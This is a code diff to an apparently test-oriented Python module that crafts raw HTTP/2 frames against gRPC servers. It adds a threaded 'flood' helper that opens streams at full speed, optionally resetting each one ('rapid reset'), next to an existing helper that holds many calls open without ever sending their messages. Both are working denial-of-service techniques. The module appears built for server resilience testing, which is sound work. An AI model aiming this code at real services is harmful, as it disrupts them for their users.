@@ -4,7 +4,10 @@ grpcio's clients always send the message with the headers; an attacker need not.
 Headers are literal HPACK (no Huffman, no table), which every server reads.
 """
 
+import contextlib
 import socket
+import threading
+from collections.abc import Iterator
 
 
 def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
@@ -17,13 +20,15 @@ def _literal(name: bytes, value: bytes) -> bytes:
     return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
-def held_back_calls(endpoint: str, path: str, calls: int) -> socket.socket:
-    """Open `calls` calls of `path` on one connection, send their headers, and never
-    their messages; the calls last until the returned socket is closed."""
+def _connect(endpoint: str) -> socket.socket:
     host, port = endpoint.rsplit(":", 1)
     conn = socket.create_connection((host, int(port)), timeout=10)
     conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
-    headers = b"".join(
+    return conn
+
+
+def _headers(endpoint: str, path: str) -> bytes:
+    return b"".join(
         _literal(name, value)
         for name, value in (
             (b":method", b"POST"),
@@ -34,8 +39,63 @@ def held_back_calls(endpoint: str, path: str, calls: int) -> socket.socket:
             (b"te", b"trailers"),
         )
     )
+
+
+def held_back_calls(endpoint: str, path: str, calls: int) -> socket.socket:
+    """Open `calls` calls of `path` on one connection, send their headers, and never
+    their messages; the calls last until the returned socket is closed."""
+    conn = _connect(endpoint)
+    headers = _headers(endpoint, path)
     conn.sendall(b"".join(_frame(1, 0x4, 2 * n + 1, headers) for n in range(calls)))
     return conn
+
+
+@contextlib.contextmanager
+def flood(endpoint: str, path: str, reset: bool) -> Iterator[list[int]]:
+    """While the block runs, open calls of `path` on one connection as fast as it
+    goes: headers only, or (`reset`) each cancelled at once (RST_STREAM, "rapid
+    reset"). Yields the count of calls opened so far; what the server sends is read
+    and dropped."""
+    conn = _connect(endpoint)
+    headers, opened, done = _headers(endpoint, path), [0], threading.Event()
+    cancel = (8).to_bytes(4, "big")  # CANCEL
+
+    def send() -> None:
+        stream = 1
+        with contextlib.suppress(OSError):
+            while not done.is_set() and stream < 2**31 - 1000:
+                frames = []
+                for _ in range(500):
+                    frames.append(_frame(1, 0x4, stream, headers))
+                    if reset:
+                        frames.append(_frame(3, 0, stream, cancel))
+                    stream += 2
+                conn.sendall(b"".join(frames))
+                opened[0] += 500
+
+    def drain() -> None:
+        conn.settimeout(0.5)
+        while not done.is_set():
+            try:
+                if not conn.recv(1 << 20):
+                    return
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+
+    threads = [threading.Thread(target=send), threading.Thread(target=drain)]
+    for thread in threads:
+        thread.start()
+    try:
+        yield opened
+    finally:
+        done.set()
+        with contextlib.suppress(OSError):  # the server may have closed it
+            conn.shutdown(socket.SHUT_RDWR)
+        for thread in threads:
+            thread.join()
+        conn.close()
 
 
 def send_message(conn: socket.socket, call: int, message: bytes) -> None:
